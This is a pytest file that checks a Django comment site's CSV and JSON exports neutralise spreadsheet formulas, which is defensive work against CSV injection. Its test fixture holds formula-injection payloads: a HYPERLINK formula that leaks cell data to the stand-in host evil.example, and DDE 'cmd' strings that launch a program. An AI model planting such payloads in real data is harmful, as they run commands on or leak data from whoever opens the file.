"""Exports cannot attack the spreadsheet that opens them (CSV/formula injection)."""

from __future__ import annotations

import csv
import io
import json
from io import StringIO

import pytest
from django.core.management import call_command

from comments.exports import neutralise
from tests.factories import make_comment

ATTACKS = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"Klikk")',
    "organisation": "+cmd|' /C calc'!A0",
    "body": "@SUM(1+1)*cmd|' /C calc'!A0 og litt mer tekst",
}


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+47 22 00 00 00", "'+47 22 00 00 00"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Ola = Kari", "Ola = Kari"),
        ("", ""),
        (17, 17),
    ],
)
def test_cells_a_spreadsheet_would_run_are_neutralised(value, expected):
    assert neutralise(value) == expected


def _cells(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))


def test_open_data_csv_and_json_neutralise_formulas(open_guide, client):
    make_comment(open_guide["edition"], **ATTACKS)
    csv_text = b"".join(client.get("/horing/rapport/kommentarer.csv").streaming_content)
    (row,) = _cells(csv_text.decode())
    assert row["name"] == "'" + ATTACKS["name"]
    assert row["organisation"] == "'" + ATTACKS["organisation"]
    assert row["comment"] == "'" + ATTACKS["body"]
    data = json.loads(b"".join(client.get("/horing/rapport/kommentarer.json").streaming_content))
    assert data["comments"][0]["name"] == "'" + ATTACKS["name"]


def test_staff_exports_neutralise_formulas(open_guide, client, moderator):
    comment = make_comment(open_guide["edition"], published=False, **ATTACKS)
    out = StringIO()
    call_command("export_comments", format="csv", stdout=out)
    (row,) = _cells(out.getvalue())
    assert row["name"] == "'" + ATTACKS["name"] and row["comment"] == "'" + ATTACKS["body"]
    out = StringIO()
    call_command("export_comments", format="json", stdout=out)
    assert json.loads(out.getvalue())["comments"][0]["organisation"].startswith("'+cmd")

    client.force_login(moderator)
    response = client.post(
        "/admin/comments/comment/",
        {"action": "export_selected", "_selected_action": [comment.pk]},
    )
    (row,) = _cells(b"".join(response.streaming_content).decode())
    assert row["name"] == "'" + ATTACKS["name"]
